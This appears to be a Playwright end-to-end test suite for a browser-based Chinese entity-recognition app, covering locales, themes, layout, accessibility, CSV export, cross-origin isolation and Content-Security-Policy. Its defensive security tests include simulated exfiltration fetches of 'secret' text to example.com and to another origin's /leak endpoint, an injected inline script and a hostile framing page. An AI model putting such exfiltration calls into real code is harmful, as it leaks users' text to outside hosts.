// Language, theme, phone width, keyboard use, the Content-Security-Policy (also while a saved web page is
// read), CSV files Excel reads as UTF-8, and cross-origin isolation through the service worker (GitHub Pages
// cannot send COOP/COEP headers; neither does the test server).
import assert from 'node:assert/strict'
import { test } from '../harness.mjs'
import {
  SELECTORS, analysisAfter, appUrl, cspViolations, downloadText, newRecordedContext, openApp, openTab, screenshot, setTextAndWait,
  waitForModelReady,
} from '../helpers.mjs'

test('an English browser gets the English UI; the choice of Chinese is remembered', async (ctx) => {
  const { context } = await newRecordedContext(ctx, { locale: 'en-US' })
  const page = await openApp(ctx, context)
  assert.equal(await page.textContent('#editor-heading'), 'Text')
  assert.equal(await page.getAttribute('html', 'lang'), 'en')
  await page.click('[data-locale=zh]')
  assert.equal(await page.textContent('#editor-heading'), '文本')
  await page.reload()
  assert.equal(await page.textContent('#editor-heading'), '文本')
  assert.equal(await page.getAttribute('html', 'lang'), 'zh-CN')
  await context.close()
})

test('English: the tabs stay on one row at desktop and phone widths, the chosen one in sight; Latin punctuation is not drawn full-width', async (ctx) => {
  const { context } = await newRecordedContext(ctx, { locale: 'en-US' })
  const page = await openApp(ctx, context)
  const tabRow = () => page.$$eval('[role=tab]', (tabs) => {
    const row = tabs[0].parentElement.getBoundingClientRect()
    const chosen = tabs.find((tab) => tab.getAttribute('aria-selected') === 'true').getBoundingClientRect()
    return { rows: new Set(tabs.map((tab) => tab.offsetTop)).size, chosenInSight: chosen.left >= row.left - 1 && chosen.right <= row.right + 1 }
  })
  for (const width of [1440, 390]) {
    await page.setViewportSize({ width, height: 900 })
    for (const tab of ['model', 'entities']) {
      await openTab(page, tab)
      assert.deepEqual(await tabRow(), { rows: 1, chosenInSight: true }, `${width}px, ${tab}`)
    }
  }
  const row = await page.locator('[role=tablist]').boundingBox()
  await screenshot(ctx, page, '36-english-phone-tabs', { clip: { x: 0, y: Math.max(0, row.y - 16), width: 390, height: 120 } })
  // The CJK fonts draw ’ “ ” full-width: the English interface lists a Latin font first (an em is full width).
  const apostrophe = await page.evaluate(() => {
    const span = document.createElement('span')
    span.textContent = '’'
    document.body.append(span)
    const ems = span.getBoundingClientRect().width / parseFloat(getComputedStyle(span).fontSize)
    span.remove()
    return ems
  })
  assert.ok(apostrophe < 0.5, `’ is ${apostrophe.toFixed(2)} em wide`)
  await context.close()
})

test('a Taiwan or Hong Kong browser gets the Traditional Chinese UI, with Taiwan\'s words; a traditional dictionary type works', async (ctx) => {
  const { context } = await newRecordedContext(ctx, { locale: 'zh-TW' })
  const page = await openApp(ctx, context)
  await waitForModelReady(page)
  assert.equal(await page.getAttribute('html', 'lang'), 'zh-Hant')
  assert.equal(await page.getAttribute('[data-locale=zh-Hant]', 'aria-pressed'), 'true')
  assert.match(await page.textContent('body'), /開啟檔案/)
  assert.equal(await page.title(), 'Shiti 實體 · 瀏覽器內中文實體辨識', 'the browser tab speaks the interface\'s language')
  // Traditional text, a Traditional type name in the dictionary.
  await setTextAndWait(page, '臺北市政府今天宣布，郭台銘將出席會議。')
  await page.click('[data-tab=lexicon]')
  await page.fill('[data-testid=lexicon-source]', '臺北市政府 機構名')
  await page.waitForFunction(() => document.querySelector('mark[data-source=lexicon]')?.dataset.type === 'ORG')
  await screenshot(ctx, page, '35-traditional-chinese')
  await page.click('[data-locale=zh]')
  assert.equal(await page.getAttribute('html', 'lang'), 'zh-CN')
  assert.match(await page.textContent('body'), /打开文件/)
  assert.equal(await page.title(), 'Shiti 实体 · 浏览器内中文实体识别')
  await page.click('[data-locale=en]')
  assert.equal(await page.title(), 'Shiti 实体 · Chinese entity recognition in your browser')
  await context.close()
})

test('a first visit follows the system\'s scheme, light or dark, from the first paint; the toggle is a remembered choice, and toggling back to the system\'s follows the system again', async (ctx) => {
  const BACKGROUND = { light: 'rgb(244, 246, 251)', dark: 'rgb(5, 6, 11)' }
  const BROWSER_BAR = { light: '#f4f6fb', dark: '#05060b' }
  for (const system of ['light', 'dark']) {
    const other = system === 'light' ? 'dark' : 'light'
    const { context } = await newRecordedContext(ctx, { locale: 'en-US', colorScheme: system })
    // Before the app's script has run (here: never), the page is its background alone: already the system's.
    const noScript = /\/assets\/.*\.js$/
    await context.route(noScript, (route) => route.abort())
    const bare = await context.newPage()
    await bare.goto(appUrl(ctx))
    assert.equal(await bare.evaluate(() => getComputedStyle(document.body).backgroundColor), BACKGROUND[system], `${system} system, before the app runs`)
    await bare.close()
    await context.unroute(noScript)

    const page = await openApp(ctx, context)
    await waitForModelReady(page)
    const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor)
    const themeClass = () => page.evaluate(() => document.documentElement.className)
    const browserBars = () => page.$$eval('meta[name=theme-color]', (metas) => [...new Set(metas.map((m) => m.content))])
    assert.equal(await themeClass(), system, `${system} system: no stored choice, the system's theme`)
    assert.equal(await background(), BACKGROUND[system])
    assert.deepEqual(await browserBars(), [BROWSER_BAR[system]])
    await analysisAfter(page, () => page.click('[data-testid=sample-news]'))
    if (system === 'dark') await screenshot(ctx, page, '30-dark-english')
    await page.click('[data-testid=theme-toggle]')
    assert.equal(await themeClass(), other)
    assert.equal(await background(), BACKGROUND[other])
    assert.deepEqual(await browserBars(), [BROWSER_BAR[other]], 'a phone\'s browser bar follows the theme')
    // Let the colour transitions finish, or the screenshot shows controls half-way between the themes.
    await page.evaluate(() => Promise.all(document.getAnimations().map((a) => a.finished)))
    if (system === 'dark') await screenshot(ctx, page, '31-light-english')
    // The toggle's choice is remembered over the system's.
    await page.reload()
    await page.waitForFunction((theme) => document.documentElement.className === theme, other)
    assert.equal(await background(), BACKGROUND[other])
    assert.deepEqual(await browserBars(), [BROWSER_BAR[other]])
    // Toggling back to the system's scheme forgets the choice: the page follows the system again, live.
    await page.click('[data-testid=theme-toggle]')
    assert.equal(await themeClass(), system)
    assert.equal(await page.evaluate(() => localStorage.getItem('shiti.theme')), 'auto', 'no choice stored')
    await page.emulateMedia({ colorScheme: other })
    await page.waitForFunction((theme) => document.documentElement.className === theme, other)
    assert.deepEqual(await browserBars(), [BROWSER_BAR[other]], 'the system\'s change followed')
    await page.emulateMedia({ colorScheme: system })
    await page.waitForFunction((theme) => document.documentElement.className === theme, system)
    assert.deepEqual(await cspViolations(page), [])
    await context.close()
  }
})

test('wide screens: the editor\'s box fills its panel, ending level with the highlights\' box whatever tab is open', async (ctx) => {
  const { context } = await newRecordedContext(ctx, { viewport: { width: 1280, height: 800 } })
  const page = await openApp(ctx, context)
  await waitForModelReady(page)
  await analysisAfter(page, () => page.click('[data-testid=sample-news]'))
  const layout = () => page.evaluate((selectors) => {
    const box = (selector) => document.querySelector(selector).getBoundingClientRect()
    return {
      editor: Math.round(box(selectors.editor).bottom),
      editorHeight: Math.round(box(selectors.editor).height),
      count: Math.round(box('[data-testid=char-count]').bottom),
      view: Math.round(box(selectors.view).bottom),
    }
  }, SELECTORS)
  for (const width of [1280, 1920]) {
    await page.setViewportSize({ width, height: width === 1280 ? 800 : 1080 })
    const shown = []
    for (const tab of ['export', 'model', 'entities']) {
      await openTab(page, tab)
      shown.push(await layout())
    }
    const [at] = shown
    // (design QA: the editor's box, 60vh of its own, ended 110 to 150 px above the highlights')
    assert.ok(at.view - at.editor <= 40, `${width}px: the editor's box ends ${at.view - at.editor}px above the highlights' box`)
    assert.ok(Math.abs(at.count - at.view) <= 4, `${width}px: the character count ends at ${at.count}, the highlights' box at ${at.view}`)
    assert.deepEqual(new Set(shown.map((s) => s.editorHeight)).size, 1, `${width}px: the editor's height changed with the tab: ${JSON.stringify(shown)}`)
  }
  await screenshot(ctx, page, '37-wide-editor-fills')
  await context.close()
})

test('from 1536 px the side panel is wider: each pair of names named together is one line, in English too; narrower, its count stays right of the names', async (ctx) => {
  const { context } = await newRecordedContext(ctx, { locale: 'en-US', viewport: { width: 1920, height: 1000 } })
  const page = await openApp(ctx, context)
  await waitForModelReady(page)
  // (the campus sample's pairs are the longest: design QA saw them wrap in a 24 rem panel at 1920 px)
  await analysisAfter(page, () => page.click('[data-testid=sample-campus]'))
  await page.locator('[data-testid=name-pairs] li').first().waitFor()
  for (const width of [1536, 1920]) {
    await page.setViewportSize({ width, height: 1000 })
    const wrapped = await page.$$eval('[data-testid=name-pairs] li', (rows) => {
      const line = Math.min(...rows.map((row) => row.getBoundingClientRect().height))
      return rows.filter((row) => row.getBoundingClientRect().height > line * 1.5).map((row) => row.textContent.replace(/\s+/g, ' ').trim())
    })
    assert.deepEqual(wrapped, [], `${width}px: pairs on two lines`)
  }
  // Narrower, a pair may take two lines, but its count keeps to the right of its names: at 1280 px 'in 1 sentence'
  // wrapped alone onto a line of its own under them (QA).
  for (const width of [1280, 1024, 390]) {
    await page.setViewportSize({ width, height: 1000 })
    const stranded = await page.$$eval('[data-testid=name-pair]', (buttons) => buttons.filter((button) => {
      const count = button.lastElementChild.getBoundingClientRect()
      const names = [...button.querySelectorAll('.entity')].map((chip) => chip.getBoundingClientRect())
      return names.some((chip) => chip.right > count.left + 1)
    }).map((button) => button.textContent.replace(/\s+/g, ' ').trim()))
    assert.deepEqual(stranded, [], `${width}px: a count under or left of its names`)
  }
  await context.close()
})

test('phone width: everything fits without sideways scrolling', async (ctx) => {
  const { context } = await newRecordedContext(ctx, { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true })
  const page = await openApp(ctx, context)
  await waitForModelReady(page)
  await setTextAndWait(page, '新华社北京电 国家主席习近平在人民大会堂会见联合国秘书长。')
  await page.locator('[data-testid=threshold]').evaluate((el) => {
    el.value = '0'
    el.dispatchEvent(new Event('input', { bubbles: true }))
  })
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
  assert.ok(overflow <= 0, `the page is ${overflow}px wider than the phone`)
  await screenshot(ctx, page, '32-phone-top')
  // (Viewport shots: off-screen lines use content-visibility and are not painted in full-page captures.)
  await page.locator(SELECTORS.view).scrollIntoViewIfNeeded()
  // No hover on a touch screen: tapping an entity shows its type and score.
  await page.locator(`${SELECTORS.marks}`).first().tap()
  assert.match(await page.textContent('[data-testid=picked-entity]'), /(人名|地名|机构名) · 置信度 \d\.\d\d/)
  // The corrections are fingertip-sized on a phone (QA: 24 px tall).
  const heights = await page.$$eval('[data-testid=picked-entity] button', (buttons) => buttons.map((b) => b.getBoundingClientRect().height))
  assert.ok(heights.length > 0 && heights.every((h) => h >= 40), `correction buttons ${heights.join(', ')} px tall`)
  await screenshot(ctx, page, '33-phone-highlights')
  await context.close()
})

test('a 、 or ， right after a highlighted name never starts a line of the view', async (ctx) => {
  const { context } = await newRecordedContext(ctx, { viewport: { width: 390, height: 844 } })
  const page = await openApp(ctx, context)
  await waitForModelReady(page)
  const names = ['张伟', '李娜', '王芳', '刘洋', '陈静', '杨磊', '赵敏', '黄勇', '周杰', '吴霞', '徐明', '孙丽']
  await setTextAndWait(page, `出席会议的有${names.join('、')}和马超，北京、上海、广州、深圳、杭州、南京、武汉、成都、重庆、西安的代表也来了。`)
  const glued = await page.locator(`${SELECTORS.view} mark[data-glued]`).count()
  if (ctx.realModel) assert.ok(glued >= 10, `${glued} names with a 、 or ， after them`)
  // Where each 、 or ， after a mark stands: at the left edge of the view's text means it starts a line.
  // Over many widths, so that some put a name at the end of a line.
  const lineStartsAt = () => page.evaluate((view) => {
    const box = document.querySelector(view)
    const left = box.getBoundingClientRect().left + parseFloat(getComputedStyle(box).paddingLeft)
    const starts = []
    for (const mark of box.querySelectorAll('mark[data-glued]')) {
      let node = mark.nextSibling // (Vue leaves empty text nodes between fragments)
      while (node && !(node.nodeType === Node.TEXT_NODE && node.textContent.length > 0)) node = node.nextSibling
      if (!node) continue
      const range = document.createRange()
      range.setStart(node, 0)
      range.setEnd(node, 1)
      if (range.getBoundingClientRect().left - left < 4) starts.push(`${mark.textContent}${node.textContent[0]}`)
    }
    return starts
  }, SELECTORS.view)
  const lineStarts = []
  for (let width = 320; width <= 460; width += 4) {
    await page.setViewportSize({ width, height: 844 })
    for (const start of await lineStartsAt()) lineStarts.push(`${width}px: ${start}`)
  }
  assert.deepEqual(lineStarts, [])
  await context.close()
})

test('keyboard: skip link, labelled controls, arrow keys in the tabs, visible focus', async (ctx) => {
  const { context } = await newRecordedContext(ctx)
  const page = await openApp(ctx, context)
  await page.keyboard.press('Tab')
  assert.equal(await page.evaluate(() => document.activeElement.getAttribute('href')), '#editor')
  // Followed, it puts the keyboard in the text box (a11y QA: focus stayed on the page, the next Tab went to Samples).
  await page.keyboard.press('Enter')
  assert.equal(await page.evaluate(() => document.activeElement.dataset.testid), 'editor')
  // Every button and form control has an accessible name.
  const unnamed = await page.$$eval('button, select, textarea, input:not([type=file])', (els) =>
    els.filter((el) => !(el.getAttribute('aria-label') || el.textContent.trim() || el.closest('label') || el.getAttribute('title'))).map((el) => el.outerHTML),
  )
  assert.deepEqual(unnamed, [])
  await page.focus('[data-tab=entities]')
  await page.keyboard.press('ArrowRight')
  assert.equal(await page.evaluate(() => document.activeElement.dataset.tab), 'export')
  assert.equal(await page.getAttribute('[data-tab=export]', 'aria-selected'), 'true')
  await page.keyboard.press('End')
  assert.equal(await page.evaluate(() => document.activeElement.dataset.tab), 'model')
  const outline = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle)
  assert.equal(outline, 'solid', 'focused controls show a focus ring')
  // The status line announces the worker's state changes from a live region of its own; the state shown (it
  // flips between busy and ready at every analysis), the idle countdown, the memory and the time of the last
  // analysis, which change every second or every keystroke, are not live (a screen reader would never stop).
  assert.equal(await page.getAttribute('[data-testid=status-announcement]', 'role'), 'status')
  const live = '[aria-live]:not([aria-live=off]), [role=status], [role=alert], [role=log], [role=timer]'
  for (const quiet of ['worker-state', 'idle-countdown', 'memory', 'last-analysis']) {
    const inLiveRegion = await page.evaluate(([id, live]) => document.querySelector(`[data-testid=${id}]`)?.closest(live) != null, [quiet, live])
    assert.equal(inLiveRegion, false, `${quiet} is not in a live region`)
  }
  await context.close()
})

test('the Content-Security-Policy blocks inline scripts and requests to other origins', async (ctx) => {
  const { context, requests } = await newRecordedContext(ctx)
  const page = await openApp(ctx, context)
  await waitForModelReady(page)
  const csp = await page.getAttribute('meta[http-equiv=Content-Security-Policy]', 'content')
  assert.match(csp, /connect-src 'self'/)
  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/)
  const inlineRan = await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.__inlineRan = true'
    document.head.append(script)
    return window.__inlineRan === true
  })
  assert.equal(inlineRan, false, 'an injected inline script does not run')
  const exfiltration = await page.evaluate(() =>
    fetch('https://example.com/collect?text=secret', { method: 'POST', body: 'secret' }).then(() => 'sent', () => 'blocked'),
  )
  assert.equal(exfiltration, 'blocked')
  const violations = await cspViolations(page)
  assert.ok(violations.some((v) => v.startsWith('script-src')), `inline script reported: ${violations}`)
  assert.ok(violations.some((v) => v.startsWith('connect-src') && v.includes('example.com')), `fetch reported: ${violations}`)
  assert.ok(!requests.some((r) => r.url.includes('example.com')), 'the blocked request never went out')
  await context.close()
})

test('a saved web page with styles opens in the editor and in the Batch tab without any of them applied (no CSP error)', async (ctx) => {
  const { context } = await newRecordedContext(ctx)
  const page = await openApp(ctx, context)
  await waitForModelReady(page)
  const html = '<html><head><style>p { color: red }</style></head><body><p style="color: blue">王毅在上海会见客人。</p><div style="display: none">隐藏</div></body></html>'
  const file = { name: '样式.html', mimeType: 'text/html', buffer: Buffer.from(html) }
  await analysisAfter(page, () => page.setInputFiles('[data-testid=file-input]', file))
  assert.equal(await page.inputValue(SELECTORS.editor), '王毅在上海会见客人。')
  await openTab(page, 'batch')
  await page.setInputFiles('[data-testid=batch-files]', [file])
  await page.locator('[data-testid=batch-list] li[data-status=done]').waitFor()
  await page.waitForTimeout(200) // a violation is reported in a task of its own
  assert.deepEqual(await cspViolations(page), [])
  assert.deepEqual(page.events.consoleErrors, [])
  await context.close()
})

test('CSV downloads start with the byte-order mark Excel needs to read their Chinese; the copy and the other formats do not', async (ctx) => {
  const { context } = await newRecordedContext(ctx)
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: ctx.origin })
  const page = await openApp(ctx, context)
  await waitForModelReady(page)
  await setTextAndWait(page, '国务院总理李强在北京会见了客人。')
  await openTab(page, 'export')
  for (const format of ['csv', 'names', 'pairs', 'json', 'conll']) {
    await page.check(`input[name=export-format][value=${format}]`)
    const file = await downloadText(page, () => page.click('[data-testid=export-panel] [data-testid=download]'))
    assert.equal(file.bom, file.name.endsWith('.csv'), file.name)
  }
  await page.check('input[name=export-format][value=csv]')
  await page.click('[data-testid=export-panel] [data-testid=copy]')
  await page.locator('[data-testid=export-panel] [role=status]').filter({ hasText: /./ }).waitFor()
  assert.match(await page.evaluate(() => navigator.clipboard.readText()), /^start,end,type,text,score,source\r\n/)
  await openTab(page, 'batch')
  await page.setInputFiles('[data-testid=batch-files]', [{ name: 'a.txt', mimeType: 'text/plain', buffer: Buffer.from('李强在北京。') }])
  await page.locator('[data-testid=batch-list] li[data-status=done]').waitFor()
  const batch = await downloadText(page, () => page.click('[data-testid=batch-panel] [data-testid=download]'))
  assert.deepEqual([batch.name, batch.bom, batch.text.split('\r\n')[0]], ['shiti-batch.csv', true, 'file,start,end,type,text,score,source'])
  await context.close()
})

test('the service worker makes the page cross-origin isolated, so the engine can use WASM threads', async (ctx) => {
  const { context } = await newRecordedContext(ctx)
  const page = await openApp(ctx, context, { threads: '2' })
  await waitForModelReady(page)
  assert.equal(await page.evaluate(() => crossOriginIsolated), false, 'the server sends no COOP/COEP (like GitHub Pages)')
  assert.match(await page.textContent(SELECTORS.backend), /单线程/, 'without isolation the engine runs single-threaded')
  await page.waitForFunction(() => navigator.serviceWorker?.controller !== null, null, { timeout: 30_000 })
  await page.reload()
  await waitForModelReady(page)
  assert.equal(await page.evaluate(() => crossOriginIsolated), true, 'isolated once the service worker serves the page')
  assert.match(await page.textContent(SELECTORS.backend), /2 线程/)
  await setTextAndWait(page, '多线程分析：王毅在上海会见客人。')
  assert.equal(await page.textContent(SELECTORS.view), '多线程分析：王毅在上海会见客人。')
  assert.deepEqual(page.events.pageErrors, [])
  await screenshot(ctx, page, '34-isolated-threads')
  await context.close()
})

test('the workers get the Content-Security-Policy too, the page asks not to be translated, and no other site can frame it', async (ctx) => {
  // Privacy QA: the policy was a <meta> tag only, which a worker does not inherit: a fetch() to another origin from
  // inside the NER worker, which holds all the text, went out. Page translation sends the page's text out too, and
  // any site could frame the app and lay its own controls over it.
  const otherOrigin = ctx.origin.replace('127.0.0.1', 'localhost')
  const { context } = await newRecordedContext(ctx)
  const page = await openApp(ctx, context)
  await waitForModelReady(page)
  assert.equal(await page.getAttribute('html', 'translate'), 'no')
  assert.equal(await page.getAttribute('meta[name=google]', 'content'), 'notranslate')
  await page.waitForFunction(() => navigator.serviceWorker?.controller !== null, null, { timeout: 30_000 })
  await page.reload()
  await waitForModelReady(page)
  await setTextAndWait(page, '李娜在武汉。')
  const workers = page.workers()
  assert.ok(workers.length >= 1, 'the NER worker runs')
  for (const worker of workers) {
    const outcome = await worker.evaluate((url) => fetch(url).then(() => 'sent', () => 'blocked'), `${otherOrigin}/leak?t=secret`)
    assert.equal(outcome, 'blocked', `a fetch from ${worker.url()} to another origin`)
  }
  assert.ok(!ctx.server.state.log.some((r) => r.url.includes('/leak')), 'nothing reached the other origin')

  // Framed by another site, served by the service worker: frame-ancestors 'none' stops it.
  const host = await context.newPage()
  await host.goto(`${otherOrigin}/__e2e__/`).catch(() => {}) // any page of another origin
  await host.setContent(`<iframe src="${ctx.origin}/" style="width:800px;height:600px"></iframe>`)
  await host.waitForTimeout(2000)
  for (const frame of host.frames().slice(1)) assert.equal(await frame.locator(SELECTORS.editor).count(), 0, 'no editor in the frame')
  await context.close()

  // A first visit (no service worker yet): the app sees it is framed and does not start.
  const fresh = await newRecordedContext(ctx)
  const framing = await fresh.context.newPage()
  await framing.setContent(`<iframe src="${ctx.origin}/"></iframe>`)
  const frame = framing.frames()[1]
  await frame.locator('[data-testid=framed-notice]').waitFor({ timeout: 30_000 })
  assert.equal(await frame.locator(SELECTORS.editor).count(), 0, 'the app did not start')
  assert.equal(await frame.getAttribute('[data-testid=framed-notice] a', 'target'), '_blank')
  assert.match(await frame.textContent('[data-testid=framed-notice]'), /^Shiti 实体不在其他网站的页面中运行，以防他人页面诱导您输入或截取您的文字。 Shiti does not run/)
  await fresh.context.close()
  // A Taiwan browser reads it in Traditional Chinese, as it would the app (native-speaker review).
  const taiwan = await newRecordedContext(ctx, { locale: 'zh-TW' })
  const taiwanHost = await taiwan.context.newPage()
  await taiwanHost.setContent(`<iframe src="${ctx.origin}/"></iframe>`)
  const taiwanFrame = taiwanHost.frames()[1]
  await taiwanFrame.locator('[data-testid=framed-notice]').waitFor({ timeout: 30_000 })
  assert.match(await taiwanFrame.textContent('[data-testid=framed-notice]'), /^Shiti 實體不在其他網站的頁面中執行，.*在新分頁中開啟 · Open it in a tab of its own$/)
  await taiwan.context.close()
})
